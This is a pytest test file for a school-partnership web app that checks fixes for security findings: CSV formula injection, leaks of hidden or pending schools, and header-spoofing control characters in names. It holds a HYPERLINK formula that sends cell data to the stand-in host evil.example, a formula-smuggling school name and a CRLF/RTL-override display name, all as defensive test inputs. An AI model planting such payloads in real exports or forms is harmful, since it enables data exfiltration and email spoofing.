"""Security-review findings in partnerships: #11 (CSV formula injection), #20 (twin-city page and school
visibility), #28 (request form of hidden schools, control characters in names)."""

import csv
import io

from schoolpartners.cities.models import Country
from schoolpartners.schools.models import SchoolStatus, Visibility
from tests.factories import add_partnership

HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A2,"Open")'


def test_contact_name_with_a_formula_is_text_in_the_coordinators_csv(client, login, make_school, make_user):
    """Finding #11: a contact person named `=HYPERLINK(...)` and a school named `x;=1+2` reach the CSV as text."""
    german = make_school(Country.DE, "x;=1+2")
    russian = make_school(Country.RU, "Школа № 5")
    evil = make_user("teacher", school=german, display_name=HYPERLINK)
    other = make_user("teacher", school=russian, display_name="Ольга Юг")
    add_partnership(german, russian, evil, other)
    login(make_user("coordinator"))
    response = client.get("/partnerships.csv?lang=de")
    body = response.get_data(as_text=True)
    assert response.mimetype == "text/csv" and body.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(body[1:]), delimiter=";"))
    assert rows[0][3] == "Deutsche Schule"  # the header is translated
    (row,) = rows[1:]
    assert row[3] == "'x;=1+2" and row[6] == "Школа № 5"
    assert row[9] == "'" + HYPERLINK and row[10] == "Ольга Юг"
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


def _partnership(german, russian, make_user):
    return add_partnership(german, russian, make_user("teacher", school=german), make_user("teacher", school=russian))


def test_the_twin_city_page_hides_staff_only_schools_from_the_public(client, login, make_user, make_school, make_link):
    """Finding #20: a school visible only to logged-in staff appeared by name, with its partner, to anyone."""
    link = make_link()
    german = make_school(Country.DE, "Gymnasium Am Domblick", city=link.german_city, visibility=Visibility.staff)
    russian = make_school(Country.RU, "Лицей № 308", city=link.russian_city)
    _partnership(german, russian, make_user)
    public = client.get(f"/twin-cities/{link.id}").get_data(as_text=True)
    assert "Gymnasium Am Domblick" not in public and public.count("Лицей № 308") == 1  # listed, not the pair
    login(make_user("teacher", school=make_school()))
    staff = client.get(f"/twin-cities/{link.id}").get_data(as_text=True)
    assert "Gymnasium Am Domblick" in staff and staff.count("Лицей № 308") == 2  # listed and in the pair


def test_a_pending_partner_school_is_not_shown_on_the_twin_city_page(client, make_user, make_school, make_link):
    """Finding #20: only verified schools appear in the partnerships of a twin-city page."""
    link = make_link()
    german = make_school(Country.DE, "Schule in Prüfung", city=link.german_city, status=SchoolStatus.pending)
    russian = make_school(Country.RU, "Школа № 1", city=link.russian_city)
    _partnership(german, russian, make_user)
    assert "Schule in Prüfung" not in client.get(f"/twin-cities/{link.id}").get_data(as_text=True)


def test_a_request_form_for_an_unverified_school_is_404(client, login, make_user, make_school):
    """Finding #28: /requests/new/<id> named pending or rejected schools to any verified staff member."""
    login(make_user("teacher", school=make_school(Country.DE)))
    for status in (SchoolStatus.pending, SchoolStatus.rejected):
        hidden = make_school(Country.RU, f"Скрытая школа {status.value}", status=status)
        response = client.get(f"/requests/new/{hidden.id}")
        assert response.status_code == 404 and "Скрытая школа" not in response.get_data(as_text=True)
    visible = make_school(Country.RU, "Школа № 5")
    assert "Школа № 5" in client.get(f"/requests/new/{visible.id}").get_data(as_text=True)


def test_control_characters_are_stripped_from_display_names(client, login, make_user):
    """Finding #28: a name with a line break could spoof lines inside plain-text notification emails."""
    user = make_user("teacher")
    login(user)
    client.post(
        "/account",
        data={
            "display_name": "Anna\r\nSubject: Ihr Passwort\x07 \u202eBecker",
            "locale": "de",
            "timezone": "Europe/Berlin",
        },
    )
    assert user.display_name == "Anna Subject: Ihr Passwort Becker"
